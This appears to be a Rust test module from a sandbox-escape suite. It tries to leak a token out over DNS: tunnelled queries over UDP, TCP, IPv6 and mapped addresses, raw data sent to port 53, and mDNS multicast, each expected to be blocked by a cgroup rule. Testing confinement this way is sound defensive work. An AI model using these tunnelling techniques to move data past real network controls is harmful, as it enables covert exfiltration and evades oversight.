//! Port 53 as a way out: data in names, or anything at all to a resolver of one's choice.

use super::arena::{Arena, connect_and_deliver, ports, sent_or_cut_off, tcp, udp};
use super::attempt::{Attempt, Closer};
use super::outcome::Claim;
use crate::sys::raw::{self, Stopped};

const BY_PROGRAMS: &[Closer] = &[Closer::Cgroup];

pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt::escape(
        "dns-tunnel",
        "asks a resolver of its choice for a name that carries data",
        BY_PROGRAMS,
        |arena| {
            let (socket, to) = (udp(libc::AF_INET)?, arena.world4(ports::DNS));
            raw::sendto(&socket, &question(&arena.token), 0, Some(&to))?;
            Ok(Claim::Sent)
        },
    ),
    Attempt::escape("dns-tunnel-connected", "the same over a connected socket", BY_PROGRAMS, |arena| {
        let socket = udp(libc::AF_INET)?;
        raw::connect(&socket, &arena.world4(ports::DNS))?;
        sent_or_cut_off(raw::send(&socket, &question(&arena.token)))
    }),
    Attempt::escape("dns6-tunnel", "the same over IPv6", BY_PROGRAMS, |arena| {
        let (socket, to) = (udp(libc::AF_INET6)?, arena.world6(ports::DNS));
        raw::sendto(&socket, &question(&arena.token), 0, Some(&to))?;
        Ok(Claim::Sent)
    }),
    Attempt::escape("dns-tunnel-mapped", "the same to a mapped address", BY_PROGRAMS, |arena| {
        let (socket, to) = (udp(libc::AF_INET6)?, arena.world_mapped(ports::DNS));
        raw::sendto(&socket, &question(&arena.token), 0, Some(&to))?;
        Ok(Claim::Sent)
    }),
    Attempt::escape("dns-tcp-tunnel", "the same over TCP", BY_PROGRAMS, tcp_tunnel),
    Attempt::escape(
        "dns-port-raw-data",
        "sends to port 53 what is no question at all",
        BY_PROGRAMS,
        |arena| connect_and_deliver(arena, udp(libc::AF_INET)?, &arena.world4(ports::DNS)),
    ),
    Attempt::escape("dns-multicast", "asks the link for a name that carries data", BY_PROGRAMS, |arena| {
        let socket = udp(libc::AF_INET)?;
        raw::set_bytes(&socket, libc::IPPROTO_IP, libc::IP_MULTICAST_IF, &arena.host.v4.octets())?;
        let group = std::net::SocketAddr::from(([224, 0, 0, 251], ports::MDNS)).into();
        raw::sendto(&socket, &question(&arena.token), 0, Some(&group))?;
        Ok(Claim::Sent)
    }),
];

fn tcp_tunnel(arena: &Arena) -> Result<Claim, Stopped> {
    let socket = tcp(libc::AF_INET)?;
    raw::connect(&socket, &arena.world4(ports::DNS))?;
    let question = question(&arena.token);
    let length = u16::try_from(question.len()).unwrap_or_default().to_be_bytes();
    sent_or_cut_off(raw::send(&socket, &[&length, question.as_slice()].concat()))
}

/// RFC 1035, 4.1: one question for the address of `<label>.example`.
fn question(label: &str) -> Vec<u8> {
    let mut message = vec![0x70, 0x73, 0x01, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for part in [label, "example"] {
        message.push(u8::try_from(part.len()).unwrap_or_default());
        message.extend_from_slice(part.as_bytes());
    }
    message.extend_from_slice(&[0, 0, 1, 0, 1]);
    message
}
